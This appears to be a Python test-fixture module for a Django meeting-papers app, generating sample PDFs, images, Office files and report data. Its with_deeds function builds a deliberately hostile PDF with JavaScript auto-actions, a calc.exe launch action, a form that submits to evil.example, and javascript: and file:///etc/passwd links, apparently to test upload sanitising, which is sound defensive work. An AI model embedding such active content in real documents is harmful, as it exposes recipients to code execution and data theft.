"""Small files and papers for tests, made here so that nobody's document is needed."""

from __future__ import annotations

import io
import re
import zipfile
from typing import Any

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

from accounts.roles import Role
from oversight.actions.papers import add_paper
from oversight.actions.reports import save_fields, save_report
from oversight.models import AgendaItem, Meeting, Paper
from tests.oversight.making import NOW, Made, make_board, make_meeting


def pdf(*texts: str, pages: int = 0) -> pikepdf.Pdf:
    """A PDF with a page for each text, or so many empty pages."""
    made = pikepdf.new()
    font = made.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for text in texts or [""] * pages:
        page = made.add_blank_page(page_size=(595, 842))
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        lines = "".join(f"({line}) Tj 0 -20 Td " for line in text.split("\n") if line)
        page.Contents = made.make_stream(f"BT /F1 12 Tf 72 720 Td {lines}ET".encode())
    return made


def saved(made: pikepdf.Pdf, **how: Any) -> bytes:
    """The bytes of a PDF."""
    file = io.BytesIO()
    made.save(file, deterministic_id="encryption" not in how, **how)
    return file.getvalue()


def plain(*texts: str) -> bytes:
    return saved(pdf(*(texts or ("Home first",))))


def tagged(text: str = "Home first", *, language: str = "en-GB") -> bytes:
    made = pdf(text)
    made.Root.MarkInfo = Dictionary(Marked=True)
    made.Root.StructTreeRoot = made.make_indirect(Dictionary(Type=Name.StructTreeRoot))
    if language:
        made.Root.Lang = String(language)
    made.docinfo["/Title"] = String("The title\x00 inside")
    return saved(made)


def with_password() -> bytes:
    return saved(pdf("Secret"), encryption=pikepdf.Encryption(user="open", owner="own"))


def locked() -> bytes:
    return saved(pdf("Locked"), encryption=pikepdf.Encryption(user="", owner="own"))


def with_wrong_xref() -> bytes:
    return re.sub(rb"startxref\n\d+", b"startxref\n7", plain("Home first", "Page two"))


def script(words: str = "app.alert('evil')") -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(words))


def with_deeds() -> bytes:
    """Scripts in every place, a program to start, a form to send, a film, hidden files, comments, links."""
    made = pdf("Home first")
    made.Root.OpenAction = script()
    made.Root.AA = Dictionary(WC=script())
    made.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("x"), script()])))
    made.Root.AcroForm = Dictionary(Fields=Array([]), XFA=made.make_stream(b"<evil/>"))
    made.attachments["budget.xlsx"] = b"SECRET-BUDGET"
    page = made.pages[0]
    page.AA = Dictionary(O=script())

    def note(subtype: str, **more: Any) -> Any:
        rect = Array([10, 10, 90, 90])
        return made.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=rect, **more))

    launch = Dictionary(S=Name.Launch, F=String("calc.exe"))
    chained = Dictionary(S=Name.URI, URI=String("https://www.example.org/"), Next=Array([script()]))
    held = made.make_stream(b"SECRET-ATTACHED", Type=Name.EmbeddedFile)
    spec = Dictionary(Type=Name.Filespec, F=String("a.txt"), EF=Dictionary(F=held))
    sends = note("/Widget", A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")))
    made.Root.AcroForm.Fields = Array([sends])
    page.Annots = Array(
        [
            note("/Link", A=launch), note("/Link", A=chained),
            note("/Link", A=Dictionary(S=Name.URI, URI=String("javascript:evil()"))),
            note("/Link", A=Dictionary(S=Name.URI, URI=String("file:///etc/passwd"))),
            note("/Link", A=Dictionary(S=Name.URI, URI=String("mailto:a@example.org"))),
            sends, note("/Screen"), note("/Text", Contents=String("REMARK-ONE")), note("/Popup"),
            note("/Highlight", Contents=String("REMARK-TWO"), T=String("Reviewer")),
            note("/FileAttachment", FS=spec),
        ]
    )  # fmt: skip
    return saved(made)


def turned(*degrees: int) -> bytes:
    made = pdf(*["Home first"] * len(degrees))
    for page, each in zip(made.pages, degrees, strict=True):
        page.Rotate = each
    return saved(made)


def picture(kind: str = "PNG", *, size: tuple[int, int] = (400, 300), mode: str = "RGB", **how: Any) -> bytes:
    file = io.BytesIO()
    Image.new(mode, size).save(file, kind, **how)
    return file.getvalue()


TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/main.xml" ContentType="application/vnd.openxmlformats-officedocument.{}"/></Types>'
)
DOCX, XLSX = "wordprocessingml.document.main+xml", "spreadsheetml.sheet.main+xml"
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="{}" TargetMode="External"/><Relationship Id="r2" Type="x/styles" Target="styles.xml"/>'
    "</Relationships>"
)


def office(kind: str = DOCX, **parts: bytes | str) -> bytes:
    """An office file with its list of types and these parts besides (a / in a name is written __)."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", TYPES.format(kind))
        for name, content in {"word__document.xml": "<d/>", **parts}.items():
            archive.writestr(name.replace("__", "/"), content)
    return file.getvalue()


class Desk:
    """A board with a meeting, and the people who write, advise and approve."""

    def __init__(self, people: Any, **meeting: Any) -> None:
        self.people = people
        self.made: Made = make_board(people)
        self.meeting: Meeting = make_meeting(self.made, **meeting)
        self.item: AgendaItem = self.meeting.items.get(number=4)
        self.admin = self.made.admin
        self.author = people.join(Role.WORKSTREAM_LEAD, name="Wim Writes")
        self.finance = people.join(Role.COMMISSIONER, name="Fin Finance")
        self.legal = people.join(Role.QUALITY_LEAD, name="Lea Legal")

    def paper(self, kind: str = "upload", title: str = "Beds and homes", **fields: Any) -> Paper:
        by = fields.pop("by", self.author)
        return add_paper(item=fields.pop("item", self.item), kind=kind, title=title, by=by, at=NOW, **fields)

    def exempt(self, kind: str = "upload", title: str = "SECRET-TITLE", **fields: Any) -> Paper:
        return self.paper(
            kind, title, exempt=True, exempt_paragraph="3", public_interest="Prices would rise.",
            **{"by": self.admin, **fields},
        )  # fmt: skip


FULL = {
    "form": "decision_report",
    "decision_maker": "Joint Care Board", "subject": "Home first", "date_of_decision": "16 September 2021",
    "report_of": "Director of Care", "confidentiality": "Not applicable", "summary": "Why homes matter.",
    "contacts": [{"role": "Author", "name": "Wim Writes", "email": "wim@example.org"}],
    "recommendations": [{"text": "Support the plan"}, {"text": "Note paragraph {para:costs}"}],
    "reasons": [{"text": "Because:\n- beds are few\n- homes are better"}],
    "alternatives": [{"text": "Do nothing."}],
    "detail": [
        {"kind": "heading", "text": "The model"}, {"key": "beds", "text": "Beds, see {para:costs}."},
        {"kind": "table", "caption": "Beds", "rows": [["", "Now", "Then"], ["Nursing", "9", "8"]]},
    ],
    "capital_revenue": [{"key": "costs", "text": "It costs £30.5K."}],
    **{key: [{"text": "None"}] for key in ("property_other", "powers", "other_legal")},
    **{key: [{"text": "None"}] for key in ("conflict", "risk", "policy")},
    "key_decision": "yes", "wards": "All", "esia_needed": "yes", "privacy_needed": "no",
    "appendices": [{"title": "How it was counted"}],
}  # fmt: skip


def full_assessment() -> dict[str, Any]:
    from oversight.reports import CHARACTERISTICS

    return {
        "form": "equality_assessment", "proposal": "Home first", "profile": "2,733 people a month",
        "summary": "Some", "positive": "More at home", "manager": "M", "manager_date": "1 September 2021",
        "approver": "A", "approver_date": "2 September 2021",
        "impacts": [{"key": key, "answer": "none"} for key in CHARACTERISTICS],
    }  # fmt: skip


def sent(content=None, name="Beds.pdf"):
    """A file as a form sends it."""
    return SimpleUploadedFile(name, content or plain())


def report(desk, **content) -> Paper:
    """A decision report with everything answered."""
    paper = desk.paper("decision_report", "Home first")
    save_report(paper=paper, content={**FULL, **content}, base_version=None, by=desk.author, at=NOW)
    return paper


def theirs(desk, paper, base) -> None:
    """Somebody else saves the summary."""
    values = {"summary": "Theirs"}
    save_fields(paper=paper, part="summary", values=values, base_version=base, by=desk.finance, at=NOW)
